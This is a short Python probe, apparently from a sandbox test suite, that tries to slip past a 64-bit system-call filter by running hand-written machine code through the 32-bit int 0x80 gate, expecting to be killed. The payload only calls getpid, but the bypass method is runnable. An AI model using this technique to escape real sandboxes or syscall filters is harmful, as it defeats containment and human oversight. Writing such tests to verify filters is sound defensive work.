# Tries: make system calls by the 32-bit gate, past a filter for 64 bits
# Status: killed|error
import ctypes
import mmap
import platform

if platform.machine() != "x86_64":
    raise SystemExit(1)
# mov eax, 20 (getpid of the 32-bit table); int 0x80; ret
code = mmap.mmap(
    -1,
    4096,
    flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
    prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC,
)
code.write(b"\xb8\x14\x00\x00\x00\xcd\x80\xc3")
address = ctypes.addressof(ctypes.c_char.from_buffer(code))
result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
print("ESCAPED", result)
